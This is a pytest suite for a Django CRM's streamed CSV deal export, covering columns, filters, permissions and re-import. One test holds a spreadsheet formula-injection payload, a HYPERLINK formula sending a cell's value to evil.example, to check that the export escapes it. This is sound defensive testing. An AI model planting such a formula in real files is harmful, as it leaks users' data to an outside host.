"""Deal export: the deal list's deals, filters and sort as a streamed, spreadsheet-safe CSV file whose
columns the deal import recognises, so that a file exported, edited and imported again updates the same
deals, their dates and product lines included."""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Callable
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import StreamingHttpResponse
from django.urls import reverse
from django.utils import timezone

from crm.imports.services import record_import_confirm, record_import_upload
from crm.models import DuplicatePolicy, ImportStatus, RecordImport, User
from sales import exporting
from sales.importing.columns import FIELDS
from sales.models import Deal, DealLine, DealStatus, DealType, LostReason, Pipeline, Product
from tests.conftest import count_queries
from tests.factories import AccountFactory, ContactFactory, DealFactory, PipelineFactory, ProductFactory
from tests.factories.sales import stage

pytestmark = pytest.mark.django_db
EXPORT = reverse("sales:deal-export")
LIST = reverse("sales:deal-list")
DEAL_LINK = re.compile(r'<a href="/pipeline/deals/(\d+)/"')
BOM = "\ufeff".encode()
BERLIN = ZoneInfo("Europe/Berlin")
HEADERS = [
    ("CRM record ID", "record_id"),
    ("Deal name", "name"),
    ("Account", "account"),
    ("Primary contact", "primary_contact"),
    ("Pipeline", "pipeline"),
    ("Stage", "stage"),
    ("Amount", "amount"),
    ("Currency", "currency"),
    ("Type", "type"),
    ("Owner", "owner"),
    ("Created date", "created_at"),
    ("Close date", "close_date"),
    ("Closed date", "closed_at"),
    ("Lost reason", "lost_reason"),
    ("Products", "products"),
    ("Next step", "next_step"),
    ("External id", "external_id"),
    ("External source", "external_source"),
]


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def pipeline() -> Pipeline:
    """The default pipeline alone: its stages are named by name only."""
    return Pipeline.objects.get(name="Sales")


@pytest.fixture
def berliner(rep: User) -> User:
    """The rep, working where a day starts an hour or two before it does in UTC."""
    rep.time_zone = "Europe/Berlin"
    rep.save(update_fields=["time_zone"])
    return rep


def _body(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def _text(response) -> str:
    return _body(response).decode("utf-8-sig")


def _parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _rows(response) -> list[dict[str, str]]:
    return _parse(_text(response))


def _ids(response) -> list[int]:
    return [int(row["CRM record ID"]) for row in _rows(response)]


def _list_ids(response) -> list[int]:
    return [int(pk) for pk in DEAL_LINK.findall(response.content.decode())]


def _at(day: str, time: str) -> datetime.datetime:
    return datetime.datetime.fromisoformat(f"{day}T{time}").replace(tzinfo=BERLIN)


def _lines(deal: Deal) -> list[tuple[str, Decimal, Decimal, Decimal]]:
    return [
        (line.product.name, line.quantity, line.unit_price, line.discount)
        for line in deal.lines.select_related("product").order_by("position", "id")
    ]


def _add_lines(deal: Deal, *lines: tuple[Product, str]) -> None:
    for position, (product, quantity) in enumerate(lines):
        DealLine.objects.create(
            deal=deal,
            product=product,
            quantity=Decimal(quantity),
            unit_price=product.unit_price,
            position=position,
        )


def _edited(text: str, change: Callable[[dict[str, str]], None]) -> bytes:
    """The exported CSV text with `change` applied to each row, as a spreadsheet saves it again."""
    reader = csv.DictReader(io.StringIO(text))
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(reader.fieldnames or []))
    writer.writeheader()
    for row in reader:
        change(row)
        writer.writerow(row)
    return out.getvalue().encode("utf-8-sig")


@pytest.fixture
def reimport(django_capture_on_commit_callbacks):
    def run(actor: User, data: bytes) -> RecordImport:
        record_import = record_import_upload(
            actor=actor, kind="deals", file=SimpleUploadedFile("deals.csv", data)
        )
        with django_capture_on_commit_callbacks(execute=True):
            record_import_confirm(
                actor=actor,
                import_id=record_import.pk,
                mapping=record_import.mapping,
                duplicate_policy=DuplicatePolicy.UPDATE,
                all_or_nothing=False,
                owner=None,
            )
        record_import.refresh_from_db()
        return record_import

    return run


def _problems(record_import: RecordImport) -> list[tuple[int, str, str]]:
    return list(record_import.errors.order_by("line", "id").values_list("line", "field", "message"))


@pytest.fixture
def book(pipeline: Pipeline, berliner: User) -> dict[str, Deal]:
    """A won deal with its dates, a contact and product lines; a lost one; an open one."""
    acme = AccountFactory(owner=berliner, name="Acme", domain="acme.example")
    ada = ContactFactory(owner=berliner, account=acme, email="ada@acme.example")
    widget = ProductFactory(name="Widget Pro", sku="WP-1", unit_price=Decimal("100.00"))
    gadget = ProductFactory(name="Gadget", sku="GA-1", unit_price=Decimal("49.50"))
    won = DealFactory(
        owner=berliner,
        account=acme,
        primary_contact=ada,
        pipeline=pipeline,
        stage=stage(pipeline, "Won"),
        status=DealStatus.WON,
        amount=Decimal("249.50"),
        currency="USD",
        type=DealType.UPSELL,
        # 00:30 in Berlin is the evening before in UTC: the days are the user's.
        created_at=_at("2025-01-10", "00:30"),
        close_date=datetime.date(2025, 3, 14),
        closed_at=_at("2025-03-15", "16:00"),
        next_step="Kick-off",
        external_source="salesforce",
        external_id="006A",
    )
    _add_lines(won, (widget, "2"), (gadget, "1"))
    lost = DealFactory(
        owner=berliner,
        account=acme,
        pipeline=pipeline,
        stage=stage(pipeline, "Lost"),
        status=DealStatus.LOST,
        lost_reason=LostReason.objects.get(name="Chose a competitor"),
        amount=Decimal("900.00"),
        type=DealType.CROSS_SELL,
        created_at=_at("2025-02-01", "09:00"),
        close_date=datetime.date(2025, 2, 28),
        closed_at=_at("2025-02-20", "11:00"),
    )
    open_deal = DealFactory(
        owner=berliner,
        account=None,
        pipeline=pipeline,
        stage=stage(pipeline, "Proposal"),
        amount=Decimal("1000.00"),
        created_at=_at("2025-04-01", "09:00"),
        close_date=datetime.date(2026, 6, 30),
        next_step="=call them",
    )
    return {"won": won, "lost": lost, "open": open_deal}


# The file


def test_the_file_is_a_streamed_csv_download_with_a_bom_and_the_import_columns(as_user, berliner, book):
    response = as_user(berliner).get(EXPORT)

    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="deals-\d{4}-\d{2}-\d{2}\.csv"', response["Content-Disposition"]
    )
    body = _body(response)
    assert body.startswith(BOM)
    assert body[len(BOM) :].decode().splitlines()[0] == ",".join(header for header, _ in HEADERS)
    rows = {row["CRM record ID"]: row for row in _parse(body.decode("utf-8-sig"))}
    assert rows[str(book["won"].pk)] == {
        "CRM record ID": str(book["won"].pk),
        "Deal name": book["won"].name,
        "Account": "Acme",
        "Primary contact": "ada@acme.example",
        "Pipeline": "Sales",
        "Stage": "Won",
        "Amount": "249.50",
        "Currency": "USD",
        "Type": "Upsell",
        "Owner": berliner.email,
        "Created date": "2025-01-10",
        "Close date": "2025-03-14",
        "Closed date": "2025-03-15",
        "Lost reason": "",
        "Products": "Widget Pro x 2; Gadget",
        "Next step": "Kick-off",
        "External id": "006A",
        "External source": "salesforce",
    }
    lost = rows[str(book["lost"].pk)]
    assert (lost["Stage"], lost["Lost reason"], lost["Type"], lost["Products"]) == (
        "Lost",
        "Chose a competitor",
        "Cross-sell",
        "",
    )
    still_open = rows[str(book["open"].pk)]
    assert (still_open["Account"], still_open["Closed date"], still_open["Next step"]) == (
        "",
        "",
        "'=call them",
    )


def test_the_import_maps_every_exported_column_to_its_field():
    assert FIELDS.guess([header for header, _ in HEADERS]) == dict(HEADERS)


def test_with_several_pipelines_a_stage_is_named_with_its_pipeline_as_the_import_names_it(
    as_user, rep, pipeline
):
    PipelineFactory(name="Enterprise")  # its own "Won", "Lost"...
    deal = DealFactory(owner=rep, pipeline=pipeline, stage=stage(pipeline, "Demo"))

    [row] = _rows(as_user(rep).get(EXPORT))

    assert (row["CRM record ID"], row["Pipeline"], row["Stage"]) == (str(deal.pk), "Sales", "Sales · Demo")


@pytest.mark.parametrize(
    ("name", "quantity", "cell"),
    [
        ("Gadget", "1", "Gadget"),
        ("Gadget", "2.00", "Gadget x 2"),
        ("Gadget", "1.50", "Gadget x 1.5"),
        ("Gadget", "100", "Gadget x 100"),
        ("Xbox 360", "1", "Xbox 360 x 1"),  # alone, the import would read 360 of "Xbo"
    ],
)
def test_a_product_line_is_written_as_the_import_reads_it(as_user, rep, pipeline, name, quantity, cell):
    deal = DealFactory(owner=rep, pipeline=pipeline)
    _add_lines(deal, (ProductFactory(name=name), quantity))

    [row] = _rows(as_user(rep).get(EXPORT))

    assert row["Products"] == cell


def test_formula_looking_text_starts_with_an_apostrophe(as_user, rep, pipeline):
    typed = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    account = AccountFactory(owner=rep, name="@risk")
    DealFactory(owner=rep, pipeline=pipeline, account=account, name=typed, next_step="+1+2")

    [row] = _rows(as_user(rep).get(EXPORT))

    assert (row["Deal name"], row["Account"], row["Next step"]) == (f"'{typed}", "'@risk", "'+1+2")
    assert row["Amount"] == "1000.00"  # a number the CRM wrote stays a number


# Who exports what, through which filters


def test_the_export_has_the_lists_deals_filters_and_sort_not_only_its_page(as_user, rep, pipeline):
    for number in range(60):
        DealFactory(owner=rep, pipeline=pipeline, name=f"Deal {number:02}", amount=Decimal(number + 1))
    DealFactory(
        owner=rep, pipeline=pipeline, stage=stage(pipeline, "Won"), status=DealStatus.WON, name="Won one"
    )
    client = as_user(rep)
    query = {"status": "open", "ordering": "-amount"}

    exported = _ids(client.get(EXPORT, query))
    listed = _list_ids(client.get(LIST, query))

    names = Deal.objects.in_bulk(exported)
    assert [names[pk].name for pk in exported] == [f"Deal {number:02}" for number in reversed(range(60))]
    assert len(listed) == 50
    assert exported[:50] == listed


@pytest.mark.parametrize("ordering", ["close_date", "-close_date", "name", "-created_at"])
def test_the_export_follows_each_sort_of_the_list(as_user, rep, pipeline, ordering):
    for number, day in enumerate([None, datetime.date(2026, 1, 5), None, datetime.date(2025, 7, 1)] * 3):
        DealFactory(owner=rep, pipeline=pipeline, name=f"Deal {number % 4}", close_date=day)
    client = as_user(rep)

    assert _ids(client.get(EXPORT, {"ordering": ordering})) == _list_ids(
        client.get(LIST, {"ordering": ordering})
    )


def test_a_reps_export_holds_only_what_their_list_shows_and_a_managers_their_teams(
    as_user, rep, teammate, outsider, manager, pipeline
):
    mine = DealFactory(owner=rep, pipeline=pipeline)
    theirs = DealFactory(owner=teammate, pipeline=pipeline)
    secret = DealFactory(owner=outsider, pipeline=pipeline, name="Other team's secret")

    rep_export = _ids(as_user(rep).get(EXPORT))
    rep_list = _list_ids(as_user(rep).get(LIST))
    manager_export = _ids(as_user(manager).get(EXPORT))

    assert rep_export == rep_list  # a teammate's deal too when reps see their team's (a sales setting)
    assert mine.pk in rep_export
    assert secret.pk not in rep_export
    assert sorted(manager_export) == sorted([mine.pk, theirs.pk])
    assert _text(as_user(outsider).get(EXPORT, {"owner": rep.pk})).splitlines() == [
        ",".join(header for header, _ in HEADERS)
    ]


def test_the_export_needs_a_signed_in_user_and_a_get(client, as_user, rep):
    assert client.get(EXPORT).status_code == 302
    assert as_user(rep).post(EXPORT).status_code == 405


def test_the_list_offers_the_export_with_its_filters(as_user, rep, pipeline):
    DealFactory(owner=rep, pipeline=pipeline)

    page = as_user(rep).get(LIST, {"status": "open", "ordering": "amount", "after": "x"}).content.decode()

    assert f'href="{EXPORT}?status=open&amp;ordering=amount"' in page


def test_the_query_count_does_not_grow_with_the_deals(as_user, rep, pipeline, assert_same_query_count):
    products = ProductFactory.create_batch(2)

    def deals(count: int) -> None:
        for _ in range(count):
            account = AccountFactory(owner=rep)
            deal = DealFactory(
                owner=rep,
                pipeline=pipeline,
                account=account,
                primary_contact=ContactFactory(owner=rep, account=account),
                lost_reason=LostReason.objects.first(),
            )
            _add_lines(deal, (products[0], "2"), (products[1], "1"))

    deals(2)
    client = as_user(rep)

    assert_same_query_count(lambda: _body(client.get(EXPORT)), grow=lambda: deals(18))


def test_the_export_reads_a_batch_per_query(as_user, rep, pipeline, monkeypatch):
    monkeypatch.setattr(exporting, "BATCH_SIZE", 3)
    for _ in range(7):
        _add_lines(DealFactory(owner=rep, pipeline=pipeline), (ProductFactory(), "1"))
    client = as_user(rep)
    _body(client.get(EXPORT))

    with count_queries() as seven:
        rows = _rows(client.get(EXPORT))
    for _ in range(3):
        DealFactory(owner=rep, pipeline=pipeline)
    with count_queries() as ten:
        _body(client.get(EXPORT))

    assert len(rows) == 7
    assert len(ten.captured_queries) == len(seven.captured_queries) + 1  # 3 batches, then 4


# The round trip


def _state() -> dict[int, dict[str, Any]]:
    """Every deal's fields but the time of its last change; its times as the user's days; its lines."""
    state = {}
    for deal in Deal.objects.all():
        fields = {
            field.attname: getattr(deal, field.attname)
            for field in Deal._meta.concrete_fields
            if field.name != "updated_at"
        }
        for name in ("created_at", "closed_at"):
            fields[name] = fields[name] and fields[name].astimezone(BERLIN).date()
        fields["lines"] = _lines(deal)
        state[deal.pk] = fields
    return state


@pytest.mark.parametrize("pipelines", [1, 2], ids=["one pipeline", "several pipelines"])
def test_an_exported_deal_file_edited_and_imported_again_updates_the_same_deals(
    as_user, berliner, book, reimport, pipelines
):
    if pipelines > 1:
        PipelineFactory(name="Enterprise")
    before = _state()

    def change(row: dict[str, str]) -> None:
        if row["CRM record ID"] == str(book["open"].pk):
            row["Amount"] = "1500.00"

    data = _edited(_text(as_user(berliner).get(EXPORT)), change)
    record_import = reimport(berliner, data)

    assert record_import.status == ImportStatus.DONE
    assert (record_import.created_count, record_import.updated_count, record_import.error_count) == (
        0,
        3,
        0,
    ), _problems(record_import)
    assert record_import.skipped_count == 0
    after = _state()
    assert after[book["open"].pk]["amount"] == Decimal("1500.00")
    after[book["open"].pk]["amount"] = Decimal("1000.00")
    assert after == before
    won = Deal.objects.get(pk=book["won"].pk)
    assert won.closed_at is not None
    assert (
        won.status,
        won.created_at.astimezone(BERLIN).date(),
        won.closed_at.astimezone(BERLIN).date(),
    ) == (
        DealStatus.WON,
        datetime.date(2025, 1, 10),
        datetime.date(2025, 3, 15),
    )
    assert won.close_date == datetime.date(2025, 3, 14)
    assert _lines(won) == [
        ("Widget Pro", Decimal("2.00"), Decimal("100.00"), Decimal("0.00")),
        ("Gadget", Decimal("1.00"), Decimal("49.50"), Decimal("0.00")),
    ]
    assert Deal.objects.get(pk=book["open"].pk).next_step == "=call them"  # without the apostrophe


# What the deal import reads back as it was (sales/importing.py), though the file's cells differ in form.


def test_a_deal_won_this_morning_imports_back(as_user, rep, pipeline, reimport):
    now = timezone.now()
    # A zone where it is morning now (02:00 to 11:00), whatever the hour the test runs at.
    zone = next(
        name
        for name in (f"Etc/GMT{-offset:+d}" for offset in range(-12, 15))
        if 2 <= now.astimezone(ZoneInfo(name)).hour < 11
    )
    rep.time_zone = zone
    rep.save(update_fields=["time_zone"])
    won = DealFactory(
        owner=rep,
        pipeline=pipeline,
        stage=stage(pipeline, "Won"),
        status=DealStatus.WON,
        created_at=now - datetime.timedelta(hours=1),
        closed_at=now - datetime.timedelta(minutes=5),
    )

    record_import = reimport(rep, _edited(_text(as_user(rep).get(EXPORT)), lambda row: None))

    assert (record_import.updated_count, record_import.error_count) == (1, 0), _problems(record_import)
    won.refresh_from_db()
    assert won.status == DealStatus.WON


def test_lines_at_their_own_prices_import_back_unchanged(as_user, berliner, book, reimport):
    won = book["won"]
    DealLine.objects.filter(deal=won, position=1).update(unit_price=Decimal("40.00"), discount=Decimal(10))
    Deal.objects.filter(pk=won.pk).update(amount=Decimal("236.00"))  # 2 x 100 + 40 - 10 %
    lines = _lines(won)

    record_import = reimport(berliner, _edited(_text(as_user(berliner).get(EXPORT)), lambda row: None))

    assert record_import.error_count == 0, _problems(record_import)
    # Today: both lines at list price with 5.41 % off (the amount, 236.00, is kept).
    assert _lines(won) == lines
